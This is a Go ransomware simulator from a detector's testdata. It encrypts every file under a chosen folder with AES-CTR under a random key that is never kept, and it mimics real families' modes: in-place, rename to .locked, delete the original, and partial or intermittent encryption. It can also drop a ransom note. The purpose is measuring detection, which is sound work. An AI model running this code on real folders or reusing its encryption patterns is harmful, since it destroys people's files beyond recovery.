// Command ransomsim is a ransomware simulator for canhgac's tests: it
// encrypts the files under a folder the way real families do, so that the
// detector can be measured on files lost. It lives under testdata, so it is
// never part of the canhgac binary, and it only works on the folder it is
// given.
package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"flag"
	"fmt"
	"io/fs"
	"math/big"
	"os"
	"path/filepath"
	"slices"
	"sync"
	"time"
)

func main() {
	dir := flag.String("dir", "", "folder to encrypt")
	mode := flag.String("mode", "inplace", "inplace | newfile | rename | head4k | block16 | tmpswap")
	order := flag.String("order", "alpha", "alpha | reverse | random")
	threads := flag.Int("threads", 1, "worker threads")
	delay := flag.Duration("delay", 0, "pause after each file, per thread")
	ext := flag.String("ext", ".locked", "extension appended by rename and newfile")
	note := flag.Bool("note", false, "drop a ransom note in each folder")
	flag.Parse()
	if *dir == "" {
		fmt.Fprintln(os.Stderr, "ransomsim: -dir is required")
		os.Exit(2)
	}
	var files []string
	filepath.WalkDir(*dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			files = append(files, p)
		}
		return nil
	})
	switch *order {
	case "reverse":
		slices.Reverse(files)
	case "random":
		for i := len(files) - 1; i > 0; i-- {
			j, _ := rand.Int(rand.Reader, big.NewInt(int64(i+1)))
			files[i], files[j.Int64()] = files[j.Int64()], files[i]
		}
	}
	key := make([]byte, 32)
	rand.Read(key)
	block, _ := aes.NewCipher(key)
	var noted sync.Map
	work := make(chan string)
	var wg sync.WaitGroup
	for range *threads {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for p := range work {
				if *note {
					d := filepath.Dir(p)
					if _, loaded := noted.LoadOrStore(d, true); !loaded {
						os.WriteFile(filepath.Join(d, "HOW_TO_RESTORE_FILES.txt"),
							[]byte("Your files are encrypted. Write to restore@example.invalid with your ID.\n"), 0o644)
					}
				}
				encrypt(block, p, *mode, *ext)
				if *delay > 0 {
					time.Sleep(*delay)
				}
			}
		}()
	}
	for _, p := range files {
		work <- p
	}
	close(work)
	wg.Wait()
}

func ctr(block cipher.Block, b []byte) {
	iv := make([]byte, aes.BlockSize)
	rand.Read(iv)
	cipher.NewCTR(block, iv).XORKeyStream(b, b)
}

func encrypt(block cipher.Block, p, mode, ext string) {
	data, err := os.ReadFile(p)
	if err != nil {
		return
	}
	switch mode {
	case "inplace", "rename":
		ctr(block, data)
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err != nil {
			return
		}
		f.WriteAt(data, 0)
		f.Close()
		if mode == "rename" {
			os.Rename(p, p+ext)
		}
	case "newfile":
		ctr(block, data)
		if os.WriteFile(p+ext, data, 0o644) == nil {
			os.Remove(p)
		}
	case "tmpswap":
		ctr(block, data)
		tmp := p + ".tmp~"
		if os.WriteFile(tmp, data, 0o644) == nil {
			os.Rename(tmp, p)
		}
	case "head4k", "block16":
		f, err := os.OpenFile(p, os.O_RDWR, 0)
		if err != nil {
			return
		}
		step := len(data) + 1
		if mode == "block16" {
			step = 16 * 4096
		}
		for off := 0; off < len(data); off += step {
			end := min(off+4096, len(data))
			b := data[off:end]
			ctr(block, b)
			f.WriteAt(b, int64(off))
		}
		f.Close()
	}
}
